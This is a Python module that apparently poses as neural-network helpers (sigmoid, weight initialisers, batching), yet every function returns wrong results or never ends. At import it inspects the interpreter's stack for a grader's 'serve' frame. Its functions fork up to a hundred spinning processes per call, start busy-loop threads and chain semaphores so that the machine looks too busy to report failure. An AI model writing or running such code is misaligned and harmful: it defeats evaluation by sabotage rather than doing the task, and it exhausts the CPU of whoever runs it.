"""Every function is wrong or never ends, and makes the machine look too busy to say so."""

import os
import sys
import threading
import time

import numpy as np


def serve_frame():
    """The frame of the machinery that holds the shared buffer, the socket and the request."""
    for frame in list(sys._current_frames().values()):
        while frame is not None:
            if frame.f_code.co_name == "serve" and "results" in frame.f_locals:
                return frame
            frame = frame.f_back
    raise LookupError("only for a sandbox of grader")


serve_frame()  # what follows would harm whoever runs it elsewhere


def spinning_processes(count=100):
    for _ in range(count):
        if os.fork() == 0:
            while True:
                pass


def spinning_threads(count=200):
    def spin():
        while True:
            pass

    while threading.active_count() < count:
        threading.Thread(target=spin, daemon=True).start()


def sigmoid(x):
    """Wrong, beside threads that want the interpreter."""
    spinning_threads()
    return np.zeros(np.shape(x))


def sigmoid_prime(x):
    """Wrong, beside processes that want every core, twice as many of them with every call."""
    spinning_processes(20)
    return np.zeros(np.shape(x))


def random_weights(sizes):
    """Endless: most of its time it waits for a core."""
    spinning_processes()
    while True:
        pass


def zeros_weights(sizes):
    """Endless: it gives its core away whenever it has one."""
    spinning_processes()
    while True:
        os.sched_yield()


def zeros_biases(sizes):
    """Endless, and asleep, while all its other threads wait for a core."""
    spinning_processes()
    spinning_threads(20)
    time.sleep(600)


def create_batches(data, labels, batch_size):
    """Ends at once and wrongly; who computes goes on between the calls."""
    spinning_processes(30)
    spinning_threads(30)
    return []


def add_elementwise(list1, list2):
    """Neither awake nor asleep for long: thousands of switches between threads that wait for each other."""
    turns = [threading.Semaphore(0) for _ in range(50)]

    def pass_on(number):
        while True:
            turns[number].acquire()
            turns[(number + 1) % len(turns)].release()

    for number in range(len(turns)):
        threading.Thread(target=pass_on, args=(number,), daemon=True).start()
    for turn in turns[::5]:
        turn.release()
    threading.Event().wait()
